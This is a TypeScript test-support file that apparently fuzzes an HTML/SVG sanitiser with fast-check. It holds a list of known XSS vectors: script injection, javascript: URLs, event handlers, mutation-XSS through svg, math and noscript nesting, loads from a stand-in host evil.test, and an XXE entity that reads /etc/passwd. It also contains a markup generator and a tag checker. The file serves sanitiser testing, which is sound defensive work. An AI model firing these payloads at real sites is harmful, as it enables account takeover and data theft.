import fc from 'fast-check'

/** Attacks that sanitisers are known to have missed (lists of OWASP and html5sec, advisories of sanitize-html). */
export const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src="/media/0123456789abcdef0123456789abcdef/480" onload="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="java&#x01;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)"><style>@import "https://evil.test"</style>',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg><foreignObject><body onload="alert(1)"><script>alert(1)</script></body></foreignObject></svg>',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
  '<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script><h:img src="x" onerror="alert(1)"/></svg>',
  '<svg><script href="https://evil.test/x.js"/><SCRIPT>alert(1)</SCRIPT></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.test/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#a"/></svg>',
  '<svg><use href="javascript:alert(1)"/><use href="#a&#10;javascript:alert(1)"/></svg>',
  '<svg><image href="https://evil.test/pixel.png"/><image href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
  '<svg><feImage href="https://evil.test/"/><filter id="f"><feImage href="x"/></filter></svg>',
  '<svg><animate attributeName="href" values="#a;javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></svg>',
  '<svg><g fill="url(https://evil.test/#a)" mask="u\\72l(https://evil.test)" style="fill:url(//evil.test)"/></svg>',
  '<svg><g filter="url(#a) url(https://evil.test#b)" clip-path="image-set(\'https://evil.test\' 1x)"/></svg>',
  '<svg><style>@import url(https://evil.test); .a{fill:url(https://evil.test)} *{x:expression(alert(1))}</style></svg>',
  '<svg><style><![CDATA[</style><script>alert(1)</script>]]></style></svg>',
  '<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>',
  '<svg><text>&lt;script&gt;alert(1)&lt;/script&gt;</text><desc><img src=x onerror=alert(1)></desc></svg>',
  '<svg><handler type="text/javascript">alert(1)</handler><metadata><script>alert(1)</script></metadata></svg>',
  '<?xml-stylesheet href="javascript:alert(1)"?><svg><!-- --!><script>alert(1)</script> --></svg>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
  '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg/>',
  '<svg id="a&quot; onload=&quot;alert(1)" class="&#x22;&gt;&lt;script&gt;" data-x"y="1" data-="2" data-A="3"/>',
  '<svg/onload=alert(1)//><svg\u000conload=alert(1)>',
  '<div><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
]

/** Markup made of pieces that parsers disagree about. */
export function markupOf(names: readonly string[], attributes: readonly string[]): fc.Arbitrary<string> {
  const attribute = fc.oneof(fc.constantFrom(...attributes), fc.constantFrom('onload="1"', 'x', '"', "'", '='))
  const opening = fc
    .tuple(fc.constantFrom(...names), fc.array(attribute, { maxLength: 3 }), fc.constantFrom('>', '/>', ' >', '', ' '))
    .map(([name, list, end]) => `<${[name, ...list].join(' ')}${end}`)
  const closing = fc.constantFrom(...names).map((name) => `</${name}>`)
  const oddity = fc.constantFrom(
    '<',
    '>',
    '&',
    '&lt;',
    '&amp;lt;',
    '&#1;',
    '&#x3c;',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '\0',
  )
  const piece = fc.oneof(
    opening,
    closing,
    oddity,
    fc.constantFrom(...VECTORS),
    fc.string({ unit: 'binary', maxLength: 5 }),
  )
  return fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))
}

/** The tags of sanitised markup with their attributes; throws if a bracket is not part of a valid tag. */
export function tagsOf(markup: string): readonly { name: string; attributes: Readonly<Record<string, string>> }[] {
  const tag = /<\/?([A-Za-z0-9]+)((?: [\w:-]+="[^"<>]*")*)(?: \/)?>/g
  const rest = markup.replaceAll(tag, '')
  if (/[<>]/.test(rest)) throw new Error(`A stray bracket in ${markup}`)
  return Array.from(markup.matchAll(tag), ([, name = '', attributes = '']) => ({
    name,
    attributes: Object.fromEntries(Array.from(attributes.matchAll(/ ([\w:-]+)="([^"]*)"/g), ([, a, v]) => [a, v])),
  }))
}
